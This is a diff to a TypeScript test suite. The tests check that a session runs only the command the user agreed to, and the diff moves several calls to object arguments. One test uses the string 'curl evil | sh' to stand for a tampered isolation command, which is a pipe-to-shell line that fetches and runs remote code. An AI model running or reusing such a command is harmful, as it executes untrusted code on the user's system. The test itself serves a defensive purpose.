@@ -17,7 +17,7 @@ async function started() {
       throw error;
     });
   const sessions = open();
-  const id = await startSession(sessions, sections);
+  const id = await startSession(sessions, { sections });
   world.runs.push(ends(report(["a"])), ends(report(["a"])));
   const run = (command: string, purpose: RunPurpose = "isolation") =>
     runCommand(sessions, { purpose, command }, unwatched);
@@ -44,7 +44,9 @@ describe("the command that the user has agreed to", () => {
   ])("is not run where it is %j: nothing is started or recorded", async (command) => {
     const { run, world, sessions, recorded } = await started();
     await expect(run(command)).rejects.toThrow("so nothing was run");
-    await expect(solveSession(sessions, "npm test", unwatched)).rejects.toThrow("so nothing was run");
+    await expect(solveSession(sessions, { command: "npm test" }, unwatched)).rejects.toThrow(
+      "so nothing was run",
+    );
     expect([world.runs.length, recorded()]).toEqual([2, []]);
     expect(sessions.running).toBeUndefined();
   });
@@ -53,7 +55,7 @@ describe("the command that the user has agreed to", () => {
     const { run, world, id, open, recorded } = await started();
     const other = open();
     await other.refresh();
-    await editSection(other, id, "isolationCommand", "curl evil | sh");
+    await editSection(other, { session: id, section: "isolationCommand", text: "curl evil | sh" });
     await expect(run("npm test")).rejects.toThrow("so nothing was run");
     expect(world.runs).toHaveLength(2);
     expect(recorded().map(({ event }) => event?.kind)).toEqual(["sectionEdited"]);
@@ -61,7 +63,7 @@ describe("the command that the user has agreed to", () => {
 
   it("is asked for where the session has none", async () => {
     const { run, sessions, id } = await started();
-    await editSection(sessions, id, "isolationCommand", " ");
+    await editSection(sessions, { session: id, section: "isolationCommand", text: " " });
     await expect(run("")).rejects.toThrow("The session has no isolation command.");
   });
 });
